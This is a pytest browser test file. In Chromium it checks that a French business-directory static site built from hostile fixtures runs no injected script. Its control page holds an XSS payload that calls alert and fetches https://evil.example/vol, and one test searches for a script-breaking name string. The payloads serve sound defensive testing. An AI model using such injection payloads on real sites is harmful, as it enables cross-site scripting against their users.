"""In a real Chromium, no script from a contributor's file ever runs.

The site is built from the valid-but-nasty fixtures of tests/hostile/ (scripts,
handlers, ``javascript:`` links in descriptions and names) and every page they
reach is loaded: a dialog, a console message, a global the payloads set, or a
request to any host but the local server means a script from content ran.
"""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from browser import open_page, serve
from helpers import ACCEPTED, build_hostile_site

pytestmark = pytest.mark.browser  # every test here drives Chromium

# The payloads in tests/hostile/ call alert(), log "contenu hostile", set
# window.hostile and fetch https://evil.example/.
PAGES = [
    *(f"/entreprises/{name.split('/')[1]}/" for name in ACCEPTED if name.startswith("enterprises")),
    *(f"/evenements/{name.split('/')[1]}/" for name in ACCEPTED if name.startswith("events")),
    "/",
    "/repertoire/",
    "/evenements/",
    "/secteurs/traiteur-alimentation/",
    "/portfolio/",
]


CONTROL = (
    "<!DOCTYPE html><html lang=fr><meta charset=utf-8><title>Contrôle</title>"
    '<script>window.hostile = 1; console.log("contenu hostile"); alert("contrôle");'
    'fetch("https://evil.example/vol").catch(() => {})</script>'
)


@pytest.fixture(scope="module")
def hostile_url(tmp_path_factory):
    output = build_hostile_site(tmp_path_factory.mktemp("hostile-browser"))
    (output / "controle").mkdir()
    (output / "controle/index.html").write_text(CONTROL, encoding="utf-8")
    with serve(output) as url:
        yield url


def test_the_watch_sees_a_script_that_runs(browser, hostile_url):
    """Control: the same payloads, unfiltered, are caught by every sensor."""
    page, seen = watch(browser, hostile_url + "/controle/")
    assert page.evaluate("typeof window.hostile") == "number"
    assert seen["dialogs"] == ["contrôle"]
    assert "contenu hostile" in seen["console"]
    assert seen["elsewhere"] == ["https://evil.example/vol"]
    page.context.close()


def watch(browser, url: str):
    """A page at ``url`` that records what a content script would leave behind."""
    page = open_page(browser, "about:blank")
    seen: dict[str, list[str]] = {"dialogs": [], "console": [], "elsewhere": []}

    def on_dialog(dialog):
        seen["dialogs"].append(dialog.message)
        dialog.dismiss()

    def on_request(route):
        if urlsplit(route.request.url).hostname == "127.0.0.1":
            route.continue_()
        else:  # nothing leaves the machine, and the attempt is recorded
            seen["elsewhere"].append(route.request.url)
            route.abort()

    page.on("dialog", on_dialog)
    page.on("console", lambda message: seen["console"].append(message.text))
    page.context.route("**/*", on_request)
    page.goto(url)
    page.wait_for_load_state("networkidle")
    return page, seen


@pytest.mark.parametrize("path", PAGES)
def test_no_script_from_content_runs(browser, hostile_url, path):
    page, seen = watch(browser, hostile_url + path)
    assert page.evaluate("document.title") != ""  # the page did load
    assert page.evaluate("typeof window.hostile") == "undefined"
    for link in page.locator("main a").all():
        if link.is_visible():
            link.hover()  # would fire any onmouseover / onfocus left in the page
    page.keyboard.press("Tab")
    page.wait_for_timeout(100)
    assert seen["dialogs"] == []
    assert [m for m in seen["console"] if "hostile" in m or "alert" in m] == []
    assert seen["elsewhere"] == []
    page.context.close()


def test_clicking_a_defused_link_goes_nowhere(browser, hostile_url):
    page, seen = watch(browser, hostile_url + "/entreprises/javascript-link/")
    links = page.locator(".description a")
    assert links.count() == 6
    for index in range(links.count() - 1):  # the last one is a real external link
        links.nth(index).click()
    page.wait_for_timeout(100)
    assert page.url == hostile_url + "/entreprises/javascript-link/"
    assert seen["dialogs"] == [] and seen["elsewhere"] == []
    page.context.close()


def test_searching_for_a_hostile_name_shows_it_as_text(browser, hostile_url):
    page, seen = watch(browser, hostile_url + "/recherche/?q=Atelier")
    results = page.get_by_text('Atelier </script><script>alert("nom")</script>', exact=False)
    results.first.wait_for(timeout=10_000)  # Pagefind loads its index, then renders
    assert page.evaluate("typeof window.hostile") == "undefined"
    assert seen["dialogs"] == [] and seen["elsewhere"] == []
    assert [m for m in seen["console"] if "hostile" in m or "alert" in m] == []
    page.context.close()
